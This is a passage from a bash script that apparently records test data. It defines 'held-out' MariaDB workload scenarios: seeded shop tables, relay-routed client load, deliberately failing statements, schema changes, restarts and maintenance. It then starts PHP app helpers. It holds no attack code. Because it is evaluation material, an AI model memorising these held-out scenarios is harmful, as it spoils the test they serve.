# for its column (strict mode), a function that does not exist, a 1.6 MB GROUP_CONCAT, a
# query stopped by max_statement_time (0.1 s), a date that does not exist, CALL of a
# procedure that does not exist. The change, in the first seconds while the clients are
# busy, by the DBA (root on the socket): a column added to wishlists in place
# (ALGORITHM=INSTANT) and the slow query log switched on live (log/slow.log, 0.5 s). The
# maintenance, in the middle, by the operator inside the cgroup as mysql: `mariadb-check
# --check shop` and `mariadb-check --optimize shop wishlists`. The late event: a data
# import: 20000 prices of a supplier's file loaded by the application (LOAD DATA LOCAL
# INFILE through .195).
MARIADB_HELDOUT12_NOTES=0
mariadb_heldout12_deploy() {
  mariadb_heldout_seed heldout12 127.0.10 95 195 <<'SQL'
USE shop;
CREATE TABLE wishlists (customer_id INT NOT NULL, product_id INT NOT NULL, added DATETIME DEFAULT NOW(),
  PRIMARY KEY (customer_id, product_id));
INSERT INTO wishlists (customer_id, product_id)
  SELECT 1 + seq % 2000, 1 + (seq * 7 + (seq DIV 2000) * 37) % 500 FROM seq_1_to_8000;
CREATE TABLE price_history (id INT AUTO_INCREMENT PRIMARY KEY, product_id INT NOT NULL, price DECIMAL(8,2) NOT NULL,
  at DATETIME NOT NULL DEFAULT NOW(), KEY (product_id, at));
INSERT INTO price_history (product_id, price, at) SELECT 1 + seq % 500, 5 + seq % 90, NOW() - INTERVAL seq HOUR
  FROM seq_1_to_5000;
SQL
}
mariadb_heldout12_mix() {
  local r=$HELDOUT12_ROUND p195=$((MARIADB_RELAY_PORT + 195))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p195" -u app --skip-ssl -B)
  local c=$((1 + r * 37 % 2000)) p=$((1 + r * 11 % 500)) note=
  [ "$MARIADB_HELDOUT12_NOTES" = 0 ] || note="UPDATE wishlists SET note = 'gift idea' WHERE customer_id = $c;"
  mariadb_round_clients $((HELDOUT12_CONC / 5 + 1)) 3 $((MARIADB_RELAY_PORT + 95)) "$p195" "INSERT INTO wishlists (customer_id, product_id) VALUES ($c, $p) ON DUPLICATE KEY UPDATE added = NOW();
    SELECT product_id, COUNT(*) FROM wishlists GROUP BY product_id ORDER BY 2 DESC LIMIT 10;
    INSERT INTO price_history (product_id, price) VALUES ($p, $((5 + r % 80)).99);
    SELECT at, price, price - LAG(price) OVER (ORDER BY at) FROM price_history WHERE product_id = $p ORDER BY at DESC LIMIT 10;
    $note"
  case $((r % 6)) in
    0) "${cli[@]}" shop -e "INSERT INTO price_history (product_id, price) VALUES ($p, 123456789.5)" ;;
    1) "${cli[@]}" shop -e "SELECT price_trend(product_id) FROM price_history LIMIT 1" ;;
    2) "${cli[@]}" shop -e "SET SESSION group_concat_max_len = 4000000; SELECT GROUP_CONCAT(REPEAT('w', 200)) FROM wishlists" ;;
    3) "${cli[@]}" shop -e "SET STATEMENT max_statement_time = 0.1 FOR SELECT SLEEP(1) FROM wishlists LIMIT 2" ;;
    4) "${cli[@]}" shop -e "INSERT INTO price_history (product_id, price, at) VALUES ($p, 1, '2026-02-30')" ;;
    5) "${cli[@]}" shop -e "CALL shop.price_alerts($p)" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout12_change() {
  mariadb_root -e "ALTER TABLE shop.wishlists ADD COLUMN note VARCHAR(200), ALGORITHM=INSTANT;
    SET GLOBAL slow_query_log_file = '$MARIADB_DIR/log/slow.log'; SET GLOBAL long_query_time = 0.5;
    SET GLOBAL slow_query_log = ON" || die "mariadb heldout12: the change failed"
  MARIADB_HELDOUT12_NOTES=1
}
mariadb_heldout12_maint() {
  admin mariadb mysql mariadb-check --no-defaults -S "$MARIADB_SOCK" --check shop
  admin mariadb mysql mariadb-check --no-defaults -S "$MARIADB_SOCK" --optimize shop wishlists
}
mariadb_heldout12_late() {
  local f=$WORK/mariadb-prices.tsv
  awk 'BEGIN { for (i = 0; i < 20000; i++) printf "%d\t%d.%02d\n", 1 + i % 500, 5 + i % 90, i % 100 }' >"$f"
  mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P $((MARIADB_RELAY_PORT + 195)) -u app --skip-ssl --local-infile=1 \
    shop -e "LOAD DATA LOCAL INFILE '$f' INTO TABLE price_history (product_id, price)" || die "mariadb heldout12: the import failed"
  rm -f "$f"
}

# Held out, thirteenth set (heldout13). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.11.0/24 let in (app@'127.0.11.%'),
# two relays (outside the cgroup) bound to 127.0.11.115 and .215, and a table shop.coupons
# (3000 codes, a product, a discount, a use count and an end date). Each round shoppers'
# sessions through .115 (a sixth of the load plus one, up to 4), through .215 the promotions
# desk: a coupon redeemed (its uses counted), the valid coupons of a product, the most used
# ones per discount (`ROW_NUMBER() OVER (PARTITION BY ...)`); once the change is in, the
# promotions service's own account (`promo`, with its password) reads and redeems too. One
# more thing in turn: a coupon code too long for its column (strict mode), JSON that does not
# parse, an UPDATE of a table locked for reading, a 3 MB result, a database that does not
# exist, a `WITH RECURSIVE` calendar of 400 days. The maintenance, at the very start, inside
# the cgroup as mysql: `mariadb-admin status`, `mariadb-show shop` and `mariadb-check
# --analyze shop coupons`. The restart, in the middle: a crash (SIGKILL to mariadbd) and a
# start (InnoDB's crash recovery). The change, late, by the DBA (root on the socket): a new
# database user `promo@'127.0.11.%'` with a password and SELECT, UPDATE on coupons, its
# password changed at once (`ALTER USER ... IDENTIFIED BY`).
MARIADB_HELDOUT13_PROMO=
mariadb_heldout13_deploy() {
  mariadb_heldout_seed heldout13 127.0.11 115 215 <<'SQL'
USE shop;
CREATE TABLE coupons (code VARCHAR(16) PRIMARY KEY, product_id INT NOT NULL, discount TINYINT NOT NULL,
  uses INT NOT NULL DEFAULT 0, valid_until DATE NOT NULL, KEY (product_id));
INSERT INTO coupons (code, product_id, discount, valid_until)
  SELECT CONCAT('C', LPAD(seq, 6, '0')), 1 + seq % 500, 5 * (1 + seq % 6), CURDATE() + INTERVAL (seq % 90) DAY
  FROM seq_1_to_3000;
SQL
}
mariadb_heldout13_mix() {
  local r=$HELDOUT13_ROUND p215=$((MARIADB_RELAY_PORT + 215))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p215" -u app --skip-ssl -B)
  local code p=$((1 + r * 13 % 500))
  code=C$(printf %06d $((1 + r * 37 % 3000)))
  mariadb_round_clients $((HELDOUT13_CONC / 6 + 1)) 4 $((MARIADB_RELAY_PORT + 115)) "$p215" "UPDATE coupons SET uses = uses + 1 WHERE code = '$code' AND valid_until >= CURDATE();
    SELECT code, discount FROM coupons WHERE product_id = $p AND valid_until >= CURDATE();
    SELECT discount, code, uses FROM (SELECT discount, code, uses,
      ROW_NUMBER() OVER (PARTITION BY discount ORDER BY uses DESC) AS n FROM coupons) t WHERE n <= 3;"
  if [ -n "$MARIADB_HELDOUT13_PROMO" ]; then
    mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p215" -u promo -p"$MARIADB_HELDOUT13_PROMO" --skip-ssl -B shop \
      -e "SELECT uses FROM coupons WHERE code = '$code'; UPDATE coupons SET uses = uses + 1 WHERE code = '$code'" \
      >/dev/null 2>&1 || echo "record-testdata: the promo client failed" >&2
  fi
  # The round's one more thing: a database and SQL.
  local db=shop sql
  case $((r % 6)) in
    0) sql="INSERT INTO coupons (code, product_id, discount, valid_until) VALUES ('SUMMER-SALE-2027-EXTRA', $p, 10, CURDATE())" ;;
    1) sql="SELECT JSON_EXTRACT('{\"code\": ', '\$.code')" ;;
    2) sql="LOCK TABLES coupons READ; UPDATE coupons SET uses = 0 WHERE code = '$code'; UNLOCK TABLES" ;;
    3) sql="SELECT REPEAT('x', 3000000)" ;;
    4) db=shop_archive sql="SELECT 1" ;;
    5) sql="WITH RECURSIVE d (n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM d WHERE n < 399)
         SELECT CURDATE() + INTERVAL n DAY, COUNT(c.code) FROM d LEFT JOIN coupons c ON c.valid_until = CURDATE() + INTERVAL n DAY GROUP BY n" ;;
  esac
  "${cli[@]}" "$db" -e "$sql" >/dev/null 2>&1 || true
}
mariadb_heldout13_maint() {
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" status
  admin mariadb mysql mariadb-show --no-defaults -S "$MARIADB_SOCK" shop
  admin mariadb mysql mariadb-check --no-defaults -S "$MARIADB_SOCK" --analyze shop coupons
}
mariadb_heldout13_restart() { heldout13_restart mariadb MARIADB_PID KILL; }
mariadb_heldout13_change() {
  local secret=second-$RANDOM
  mariadb_root -e "CREATE USER promo@'127.0.11.%' IDENTIFIED BY 'first-$RANDOM';
    GRANT SELECT, UPDATE ON shop.coupons TO promo@'127.0.11.%';
    ALTER USER promo@'127.0.11.%' IDENTIFIED BY '$secret'" || die "mariadb heldout13: the new user failed"
  MARIADB_HELDOUT13_PROMO=$secret
}

# Held out, fourteenth set (heldout14). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.12.0/24 let in (app@'127.0.12.%') and
# two relays (outside the cgroup) bound to 127.0.12.125 and .225. Each round shoppers'
# sessions through .125 (a quarter of the load plus one, up to 4), through .225 the dispatch
# desk: the day's orders per product and, once the change is in, the shipments (per carrier
# and option, a label read from its JSON, a depot's parcels by INET6 address, one marked
# shipped). One more thing in turn: a statement stopped by its own time limit (`SET STATEMENT
# max_statement_time = 0.1 FOR SELECT SLEEP(1)`), a table read with the HANDLER interface, a
# prepared statement executed and deallocated, a column that does not exist, a shipment
# whose depot is no address (an error), the newest orders locked with `FOR UPDATE SKIP
# LOCKED`. The change, early, by the DBA (root on the socket): a new table with data types no
# set used, `shop.shipments` (ENUM, SET, UUID, INET6, DECIMAL, a JSON label with a validity
# check, DATETIME(6); 4000 rows). The maintenance, in the middle while the load goes on,
# inside the cgroup as mysql: a backup of the new table to a new file in XML (`mariadb-dump
# --xml shop shipments`). The reload, late: the grant tables reloaded (`mariadb-admin
# reload`, inside the cgroup as mysql). The tail: three long-lived sessions through .225, a
# query and a one-second `DO SLEEP(1)` in turn.
MARIADB_HELDOUT14_SHIPMENTS=0
mariadb_heldout14_deploy() {
  MARIADB_HELDOUT14_SHIPMENTS=0
  mariadb_heldout_seed heldout14 127.0.12 125 225 <<<'DO 1;'
}
# mariadb_heldout14_desk ARG...: the dispatch desk's client through .225, with ARG.
mariadb_heldout14_desk() { mariadb_via 225 "$@"; }
mariadb_heldout14_mix() {
  local r=$HELDOUT14_ROUND p=$((1 + HELDOUT14_ROUND * 11 % 500))
  local sql="SELECT product_id, COUNT(*), SUM(total) FROM orders GROUP BY product_id ORDER BY 3 DESC LIMIT 10;"
  [ "$MARIADB_HELDOUT14_SHIPMENTS" = 0 ] || sql+="
    SELECT carrier, options, COUNT(*), AVG(weight) FROM shipments GROUP BY carrier, options;
    SELECT tracking, JSON_VALUE(label, '\$.lines') FROM shipments WHERE order_id = $p;
    SELECT COUNT(*) FROM shipments WHERE depot = '2001:db8::$(printf %x $((r % 200)))';
    UPDATE shipments SET options = options | 4, shipped = NOW(6) WHERE order_id = $p;"
  mariadb_round_clients $((HELDOUT14_CONC / 4 + 1)) 4 $((MARIADB_RELAY_PORT + 125)) $((MARIADB_RELAY_PORT + 225)) "$sql"
  # The round's one more thing, as SQL.
  local odd
  case $((r % 6)) in
    0) odd="SET STATEMENT max_statement_time = 0.1 FOR SELECT SLEEP(1)" ;;
    1) odd="HANDLER products OPEN; HANDLER products READ FIRST; HANDLER products READ NEXT LIMIT 5; HANDLER products CLOSE" ;;
    2) odd="PREPARE s FROM 'SELECT name FROM products WHERE id = ?'; SET @i = $p; EXECUTE s USING @i; DEALLOCATE PREPARE s" ;;
    3) odd="SELECT weight_kg FROM products" ;;
    4) odd="INSERT INTO shipments (order_id, carrier, tracking, depot, weight, label, shipped)
         VALUES ($p, 'post', UUID(), 'depot-north', 1.5, '{}', NOW(6))" ;;
    5) odd="SELECT id FROM orders ORDER BY id DESC LIMIT 5 FOR UPDATE SKIP LOCKED" ;;
  esac
  mariadb_heldout14_desk -e "$odd" >/dev/null 2>&1 || true
}
mariadb_heldout14_change() {
  mariadb_root <<'SQL' || die "mariadb heldout14: the new table failed"
USE shop;
CREATE TABLE shop.shipments (id INT AUTO_INCREMENT PRIMARY KEY, order_id INT NOT NULL,
  carrier ENUM('post', 'courier', 'pickup') NOT NULL, options SET('gift', 'fragile', 'signature') NOT NULL DEFAULT '',
  tracking UUID NOT NULL, depot INET6 NOT NULL, weight DECIMAL(7,3) NOT NULL, label JSON CHECK (JSON_VALID(label)),
  shipped DATETIME(6) NOT NULL, KEY (order_id), KEY (depot));
INSERT INTO shop.shipments (order_id, carrier, options, tracking, depot, weight, label, shipped)
  SELECT 1 + seq % 500, ELT(1 + seq % 3, 'post', 'courier', 'pickup'), IF(seq % 4 = 0, 'gift,fragile', ''), UUID(),
    CONCAT('2001:db8::', HEX(seq % 200)), seq % 50 / 3, JSON_OBJECT('lines', 1 + seq % 4), NOW(6) - INTERVAL seq MINUTE
  FROM seq_1_to_4000;
SQL
  MARIADB_HELDOUT14_SHIPMENTS=1
}
mariadb_heldout14_maint() {
  admin mariadb mysql mariadb-dump --no-defaults -S "$MARIADB_SOCK" --xml \
    --result-file="$MARIADB_DIR/backup/shipments-$(date +%H%M%S).xml" shop shipments
}
mariadb_heldout14_reload() { admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" reload; }
mariadb_heldout14_tail() {
  local i j sql pids=()
  for i in 1 2 3; do
    sql=
    for j in $(seq 1 "$1"); do sql+="SELECT COUNT(*) FROM shipments WHERE carrier = 'courier' AND order_id = $((i * 100 + j)); DO SLEEP(1);"; done
    mariadb_heldout14_desk -e "$sql" >/dev/null 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}


# Held out, fifteenth set (heldout15). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.14.0/24 let in (app@'127.0.14.%') and
# two relays (outside the cgroup) bound to 127.0.14.145 and .245. Each round shoppers'
# sessions through .145 (a quarter of the load plus one, up to 4), through .245 the catalogue
# search: products by name (LIKE) and, once the change is in, by relevance (MATCH ...
# AGAINST, natural language and boolean mode). One more client in turn: a database that does
# not exist, a session abandoned by its client 0.3 s into a 2 s query, a 3 MB literal, the
# smallest statement (`DO 1`), the compressed protocol (`--compress`) for 200 products, 300
# statements in one batch. The maintenance, first, while the full load is on, inside the
# cgroup as mysql: the server's debug information written into its error log
# (`mariadb-admin debug`). The restart, in the middle: `mariadb-admin shutdown` by the
# operator inside the cgroup (as mysql on the socket) and a start. The change, last, by the
# DBA (root on the socket): a FULLTEXT index on the products' name and description (a key
# type no set used: InnoDB writes its auxiliary tables).
MARIADB_HELDOUT15_FULLTEXT=0
mariadb_heldout15_deploy() {
  MARIADB_HELDOUT15_FULLTEXT=0
  mariadb_heldout_seed heldout15 127.0.14 145 245 <<<'DO 1;'
}
mariadb_heldout15_mix() {
  local r=$HELDOUT15_ROUND sql
  sql="SELECT id, name, price FROM products WHERE name LIKE 'product $((1 + r % 50))%' LIMIT 10;"
  [ "$MARIADB_HELDOUT15_FULLTEXT" = 0 ] || sql+="
    SELECT id, MATCH (name, description) AGAINST ('fine product $((r % 9))') AS score FROM products
      WHERE MATCH (name, description) AGAINST ('fine product $((r % 9))') ORDER BY score DESC LIMIT 10;
    SELECT COUNT(*) FROM products WHERE MATCH (name, description) AGAINST ('+fine -broken' IN BOOLEAN MODE);"
  mariadb_round_clients $((HELDOUT15_CONC / 4 + 1)) 4 $((MARIADB_RELAY_PORT + 145)) $((MARIADB_RELAY_PORT + 245)) "$sql"
  # The round's one more client.
  case $((r % 6)) in
    0) mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P $((MARIADB_RELAY_PORT + 245)) -u app --skip-ssl archive_2027 -e 'DO 1' ;;
    1) timeout 0.3 mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P $((MARIADB_RELAY_PORT + 245)) -u app --skip-ssl -e 'SELECT SLEEP(2)' ;;
    2) printf "SELECT LENGTH('%s');\n" "$(head -c 3000000 /dev/zero | tr '\0' x)" | mariadb_via 245 ;;
    3) mariadb_via 245 -e 'DO 1' ;;
    4) mariadb_via 245 --compress -e 'SELECT * FROM products ORDER BY id LIMIT 200' ;;
    5) seq 1 300 | awk '{ print "SELECT name FROM products WHERE id = " $1 ";" }' | mariadb_via 245 ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout15_maint() { admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" debug; }
mariadb_heldout15_restart() {
  heldout15_ctl_restart mariadb MARIADB_PID admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" shutdown
}
mariadb_heldout15_change() {
  mariadb_root -e "ALTER TABLE shop.products ADD FULLTEXT INDEX products_text (name, description)" ||
    die "mariadb heldout15: the index failed"
  MARIADB_HELDOUT15_FULLTEXT=1
}

# Held out, sixteenth set (heldout16). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.16.0/24 let in (app@'127.0.16.%') and
# two relays (outside the cgroup) bound to 127.0.16.161 and .216. Each round shoppers'
# sessions through .161 (half the load plus one, up to 3; in the quiet start one), through
# .216 products by price range and, once the second change is in, a product's past versions
# (FOR SYSTEM_TIME ALL). One more client in turn: a client that opens a new session for each
# of six queries, the same prepared statement executed eight times, names in UTF-8 and an
# alias of 64 characters, ten statements on a table that does not exist in one session, rows
# read with a shared lock in a transaction (LOCK IN SHARE MODE), a price updated and read
# back in one transaction. The change, early, by the DBA (root on the socket): more open
# tables, a thread cache and a larger packet limit set live (`SET GLOBAL table_open_cache`,
# `thread_cache_size`, `max_allowed_packet`). The second change, two thirds in: the products
# table made system-versioned (`ALTER TABLE ... ADD SYSTEM VERSIONING`: a rebuild that keeps
# each row's history). The maintenance, last, inside the cgroup as mysql: the buffer pool's
# pages dumped to its file and loaded back (a cache warm-up, `innodb_buffer_pool_dump_now`,
# `innodb_buffer_pool_load_now`). Then a clean shutdown (TERM).
MARIADB_HELDOUT16_VERSIONED=0
mariadb_heldout16_deploy() {
  MARIADB_HELDOUT16_VERSIONED=0
  mariadb_heldout_seed heldout16 127.0.16 161 216 <<<'DO 1;'
}
mariadb_heldout16_mix() {
  local r=$HELDOUT16_ROUND sql i
  sql="SELECT id, name, price FROM products WHERE price BETWEEN $((r % 40)) AND $((r % 40 + 15)) ORDER BY price LIMIT 20;"
  [ "$MARIADB_HELDOUT16_VERSIONED" = 0 ] ||
    sql+=" SELECT id, price, row_start, row_end FROM products FOR SYSTEM_TIME ALL WHERE id = $((1 + r % 500));"
  mariadb_round_clients $((HELDOUT16_CONC / 2 + 1)) 3 $((MARIADB_RELAY_PORT + 161)) $((MARIADB_RELAY_PORT + 216)) "$sql"
  # The round's one more client.
  case $((r % 6)) in
    0) for i in 1 2 3 4 5 6; do mariadb_via 216 -e "SELECT name FROM products WHERE id = $((r * 6 + i))"; done ;;
    1) { echo "PREPARE p FROM 'SELECT name, price FROM products WHERE id = ?'; SET @id = $((1 + r % 500));"
         for i in 1 2 3 4 5 6 7 8; do echo 'EXECUTE p USING @id;'; done; } | mariadb_via 216 ;;
    2) mariadb_via 216 -e "SELECT 'Café Zürich 東京 $r' AS \`$(printf 'n%.0s' $(seq 1 64))\`; SELECT COUNT(*) FROM products WHERE name = 'Straße $r'" ;;
    3) for i in $(seq 1 10); do echo "SELECT * FROM products_archive_$i;"; done | mariadb_via 216 --force ;;
    4) mariadb_via 216 -e "START TRANSACTION; SELECT id, stock FROM products WHERE id BETWEEN $((1 + r % 400)) AND $((20 + r % 400)) LOCK IN SHARE MODE; COMMIT" ;;
    5) mariadb_via 216 -e "START TRANSACTION; UPDATE products SET price = price + 1 WHERE id = $((1 + r % 500)); SELECT price FROM products WHERE id = $((1 + r % 500)); COMMIT" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout16_change() {
  mariadb_root -e "SET GLOBAL table_open_cache = 800, thread_cache_size = 16, max_allowed_packet = 33554432" ||
    die "mariadb heldout16: set global failed"
}
mariadb_heldout16_second() {
  mariadb_root -e "ALTER TABLE shop.products ADD SYSTEM VERSIONING" || die "mariadb heldout16: versioning failed"
  MARIADB_HELDOUT16_VERSIONED=1
}
mariadb_heldout16_maint() {
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -e "SET GLOBAL innodb_buffer_pool_dump_now = ON"
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -e "SET GLOBAL innodb_buffer_pool_load_now = ON"
}
# Held out, seventeenth set (heldout17). Deployed before the start (the server started once
# outside the recording): application servers on 127.0.22.0/24 let in (app@'127.0.22.%'), four
# relays (socat, outside the cgroup) bound to 127.0.22.22, .72, .122 and .222 (two
# application servers behind a balancer, the back office, the odd clients), and a table of
# clicks. A cold start under load: mariadbd starts inside the recording while its clients
# already retry (heldout17_begin). Each round shoppers' sessions through .22 or .72 in turn
# (half the slow wave's load plus one, up to 6), through .122 the back office: the last
# hour's sales per product WITH ROLLUP and a stock reservation, and, once the change is in,
# the monitoring's read of the latency histogram (information_schema.QUERY_RESPONSE_TIME).
# One more client through .222 in turn: keywords and names in mixed case and a SKU as a hex
# literal, a login and a query sent in the wire protocol's bytes and the connection closed
# 0.3 s later without reading the server's greeting or answer, eight clients at once on one product's row
# (SELECT ... FOR UPDATE), a statement that arrives in pieces (a slow pipe), 200 one-row
# INSERTs on one connection (each its own commit), uncommon but valid client options (latin1,
# an init command that turns on ANSI_QUOTES, a larger packet limit) and clauses (OFFSET ...
# FETCH FIRST ... WITH TIES, LIMIT ROWS EXAMINED, FOR UPDATE NOWAIT). The maintenance, early,
# inside the cgroup as mysql: engine-independent statistics with histograms collected for the
# orders (`ANALYZE TABLE ... PERSISTENT FOR ALL`). The change, in the middle, by a full
# restart (TERM, start): an include directory (`!includedir conf.d` in my.cnf) with a file
# that loads two plugins the package ships (the query response time histogram and the SQL
# error log) and turns on the query cache. The maintenance, late, while the load falls: the
# histogram written by the server into a new dated file (`SELECT ... INTO OUTFILE
# 'backup/response-time-<time>.csv'`) and flushed (`FLUSH QUERY_RESPONSE_TIME`). The
# recording ends with load still running.
MARIADB_HELDOUT17_ADDRS=(22 72 122 222)
MARIADB_HELDOUT17_PLUGINS=0
mariadb_heldout17_deploy() {
  MARIADB_HELDOUT17_PLUGINS=0
  mariadb_heldout_seed heldout17 127.0.22 "${MARIADB_HELDOUT17_ADDRS[@]}" <<'SQL'
CREATE TABLE shop.clicks (id INT AUTO_INCREMENT PRIMARY KEY, product_id INT NOT NULL,
  at DATETIME(3) NOT NULL DEFAULT NOW(3), KEY (product_id));
SQL
}
# mariadb_heldout17_wire SQL: a client's login as app to shop (no password, protocol 4.1) and
# SQL as a query, in the wire protocol's bytes, for a client that sends them without reading
# the server's greeting or answers (the server runs the query if the client stays a moment).
mariadb_heldout17_wire() {
  perl -e 'my $caps = 0x1 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x80000;
    my $login = pack("VVC", $caps, 1 << 24, 33) . ("\0" x 23) . "app\0" . "\0" . "shop\0" . "mysql_native_password\0";
    my $q = "\x03" . $ARGV[0];
    print substr(pack("V", length $login), 0, 3), "\x01", $login, substr(pack("V", length $q), 0, 3), "\x00", $q;' "$1"
}
mariadb_heldout17_mix() {
  local r=$HELDOUT17_ROUND sql i pids=() p=$((1 + HELDOUT17_ROUND % 500))
  sql="SELECT product_id, SUM(qty) FROM orders WHERE created > NOW() - INTERVAL 1 HOUR GROUP BY product_id WITH ROLLUP LIMIT 20;
    UPDATE products SET stock = stock - 1 WHERE id = $p AND stock > 0;"
  [ "$MARIADB_HELDOUT17_PLUGINS" = 0 ] || sql+=" SELECT * FROM information_schema.QUERY_RESPONSE_TIME;"
  mariadb_round_clients $((HELDOUT17_CONC / 2 + 1)) 6 $((MARIADB_RELAY_PORT + MARIADB_HELDOUT17_ADDRS[r % 2])) \
    $((MARIADB_RELAY_PORT + 122)) "$sql"
  # The round's one more client.
  case $((r % 6)) in
    0) mariadb_via 222 -e "sElEcT NaMe, PrIcE fRoM products WhErE Id = $p; SeLeCt CoUnT(*) FrOm orders wHeRe Customer_Id = $((1 + r % 2000));
         SELECT id FROM products WHERE sku = X'$(printf 'SKU%09d' "$p" | od -An -tx1 | tr -d ' \n')'" ;;
    1) for i in 1 2 3; do
         { mariadb_heldout17_wire "SELECT * FROM orders WHERE customer_id = $((i + r % 1000))"; sleep 0.3; } |
           socat -u - "TCP:127.0.0.1:$((MARIADB_RELAY_PORT + 222))" 2>/dev/null || true
       done ;;
    2) for i in 1 2 3 4 5 6 7 8; do
         mariadb_via 222 -e "START TRANSACTION; SELECT stock FROM products WHERE id = 7 FOR UPDATE;
           UPDATE products SET stock = stock - 1 WHERE id = 7; DO SLEEP(0.05); COMMIT" &
         pids+=($!)
       done
       wait "${pids[@]}" ;;
    3) { printf 'SELECT id, name,\n'; sleep 0.3; printf '  price FROM products\n'; sleep 0.3; printf '  WHERE id = %s;\n' "$p"; } |
         mariadb_via 222 ;;
    4) seq 1 200 | awk -v p="$p" '{ print "INSERT INTO clicks (product_id) VALUES (" (p + $1) % 500 + 1 ");" }' | mariadb_via 222 ;;
    5) mariadb_via 222 --default-character-set=latin1 --max-allowed-packet=64M \
         --init-command="SET SESSION sql_mode = CONCAT(@@sql_mode, ',ANSI_QUOTES')" \
         -e "SELECT \"name\", price FROM products ORDER BY price OFFSET 5 ROWS FETCH FIRST 3 ROWS WITH TIES;
           SELECT id FROM products WHERE stock > 0 LIMIT 10 ROWS EXAMINED 100;
           START TRANSACTION; SELECT id FROM products WHERE id = $p FOR UPDATE NOWAIT; COMMIT" ;;
  esac >/dev/null 2>&1 || true
}
mariadb_heldout17_early() {
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -e "ANALYZE TABLE shop.orders PERSISTENT FOR ALL"
}
mariadb_heldout17_change() {
  mariadb_stop
  install -d -m 755 "$MARIADB_DIR/conf.d"
  printf '%s\n' '[mariadbd]' 'plugin_load_add = query_response_time' 'query_response_time_stats = ON' \
    'plugin_load_add = sql_errlog' 'query_cache_type = 1' 'query_cache_size = 8M' >"$MARIADB_DIR/conf.d/monitoring.cnf"
  chmod 644 "$MARIADB_DIR/conf.d/monitoring.cnf"
  echo "!includedir $MARIADB_DIR/conf.d" >>"$MARIADB_DIR/my.cnf"
  mariadb_start
  MARIADB_HELDOUT17_PLUGINS=1
}
mariadb_heldout17_late() {
  admin mariadb mysql mariadb --no-defaults -S "$MARIADB_SOCK" -e \
    "SELECT * FROM information_schema.QUERY_RESPONSE_TIME INTO OUTFILE '$MARIADB_DIR/backup/response-time-$(date +%Y%m%d-%H%M%S).csv' FIELDS TERMINATED BY ','; FLUSH QUERY_RESPONSE_TIME"
}

# rotate_logs SIGNAL PID GZIP FILE...: a server's logs rotated as Debian's logrotate does with
# delaycompress: each FILE renamed to FILE.1, the previous FILE.1 to FILE.2 (gzipped if GZIP
# is not empty), then SIGNAL to PID, the server's way to reopen its logs.
rotate_logs() {
  local sig=$1 pid=$2 gz=$3 f
  shift 3
  for f in "$@"; do
    if [ -f "$f.1" ]; then
      mv -f "$f.1" "$f.2"
      [ -z "$gz" ] || gzip -f "$f.2"
    fi
    mv -f "$f" "$f.1"
  done
  kill "-$sig" "$pid"
  sleep 0.3
}

# --- PHP applications -------------------------------------------------------------------

# The pieces apache's (mod_php) and lighttpd's (php-cgi) PHP applications share; each app lays
# out htdocs/ next to app/ (pages require ../app/bootstrap.php), and its lib defines
# check_login, require_user, page_header and page_footer.
# php_session_funcs: resume_session (a session only for a client that sent its cookie) and
# current_user, PHP functions for a lib file.
php_session_funcs() {
  cat <<'PHP'
function resume_session(): void {
    if (session_status() === PHP_SESSION_NONE && isset($_COOKIE[session_name()])) session_start();
}
function current_user(): ?string {
    resume_session();
    return $_SESSION['user'] ?? null;
}
PHP
}
# php_pdo_funcs: db (one PDO connection to the SQLite database DB_PATH, waiting up to 5 s for
# its lock) and query (a prepared statement executed), PHP functions for a lib file.
php_pdo_funcs() {
  cat <<'PHP'
function db(): PDO {
    static $pdo = null;
    if ($pdo === null) {
        $pdo = new PDO('sqlite:' . DB_PATH, null, null,
                       [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION, PDO::ATTR_DEFAULT_FETCH_MODE => PDO::FETCH_ASSOC]);
        $pdo->exec('PRAGMA busy_timeout = 5000');
    }
    return $pdo;
}
function query(string $sql, array $args = []): PDOStatement {
    $s = db()->prepare($sql);
    $s->execute($args);
    return $s;
}
PHP
}
# php_not_found: not_found (a 404 page in the site's layout), a PHP function for a lib file.
php_not_found() {
  cat <<'PHP'
function not_found(): void {
    http_response_code(404);
    page_header('Not found');
    echo '<p>Not found.</p>';
    page_footer();
    exit;
}
PHP
}
# php_upload_checks: PHP statements that take the upload in the form field doc into $f and its
# safe name into $name, answering 413, 400 or 415 (a PHP script's name) instead.
php_upload_checks() {
  cat <<'PHP'
$f = $_FILES['doc'] ?? null;
if ($f === null || $f['error'] !== UPLOAD_ERR_OK) {
    http_response_code($f !== null && in_array($f['error'], [UPLOAD_ERR_INI_SIZE, UPLOAD_ERR_FORM_SIZE]) ? 413 : 400);
    exit('upload failed');
}
$name = preg_replace('/[^A-Za-z0-9._-]/', '_', basename($f['name']));
if (preg_match('/\.(php\d?|phtml|phar)$/i', $name)) { http_response_code(415); exit('type not allowed'); }
PHP
}
# php_site_pages HTDOCS: the sign-in page (a new session, the user in it), the sign-out page and
# the 404 handler in HTDOCS.
php_site_pages() {
  cat >"$1/login.php" <<'PHP'
<?php
require __DIR__ . '/../app/bootstrap.php';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $user = (string)($_POST['user'] ?? '');
    if (check_login($user, (string)($_POST['pass'] ?? ''))) {
        session_start();
        session_regenerate_id(true);
